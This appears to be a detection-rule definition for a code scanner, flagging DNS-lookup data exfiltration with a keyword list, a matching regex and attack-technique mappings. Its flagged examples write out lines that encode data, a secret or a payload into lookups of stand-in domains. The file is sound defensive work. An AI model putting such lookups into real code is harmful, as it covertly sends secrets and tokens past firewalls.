import { scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "EXFIL_117",
  aliases: ["JS_DNS_TXT_EXFIL_001"],
  title: "Code puts data into a name lookup",
  why: "A lookup leaves through every firewall, from any language.",
  fix: "Remove the code; look at the resolver's log for what left.",
  severity: "high",
  category: "exfiltration",
  lane: "block",
  maps: {
    asi: ["ASI02"],
    mcp: ["MCP06"],
    cwe: ["CWE-200", "CWE-201"],
    see: ["https://attack.mitre.org/techniques/T1048/"],
  },
  keywords: [
    "gethostbyname",
    "getaddrinfo",
    "dns.lookup",
    "dns.resolve",
    "getbyname",
    "lookuphost",
    "lookupip",
    "lookuptxt",
    "lookupaddr",
    "gethostentry",
    "gethostaddresses",
    "dns_get_record",
    "checkdnsrr",
    "dns.resolver",
    "resolv.getaddress",
  ],
  match: scan(
    /\b(?:socket\.(?:gethostbyname|getaddrinfo)|dns\.(?:lookup|resolve\w{0,6}|resolver\.(?:query|resolve))|InetAddress\.getByName|net\.Lookup(?:Host|IP|TXT|Addr)|Dns\.GetHost(?:Entry|Addresses)|gethostbyname|dns_get_record|Resolv\.getaddress|checkdnsrr)\s{0,2}\(\s{0,3}([^\n]{4,240})/i,
    (match) => {
      const argument = match[1] ?? "";
      return /["'`}]\.?[\w-]{1,40}(?:\.[\w-]{1,40}){1,4}["'`]/.test(argument) &&
        /(?:\+|\$\{|f["']|format|%|\.\s?["'])/.test(argument) &&
        /\b(?:b64|base64|hex|encode|hexlify|btoa|read|environ|env|secret|token|password|passwd|key|data|chunk|payload|user|hostname|exec|cookie)\w{0,12}/i
          .test(argument);
    },
  ),
  examples: {
    flags: [
      { text: 'socket.gethostbyname(base64.b32encode(data).decode() + ".x.example.net")', kind: "tool_argument" },
      { text: "dns.lookup(`${secret}.c.example.org`, () => {})", kind: "document" },
      { text: 'InetAddress.getByName(hexEncode(payload) + ".t.example")', kind: "tool_result" },
    ],
    passes: [
      { text: "socket.gethostbyname(hostname)", kind: "document" },
      { text: 'dns.lookup("example.com", cb)', kind: "document" },
      { text: 'net.LookupHost(service + ".svc.cluster.local")', kind: "document" },
    ],
  },
});
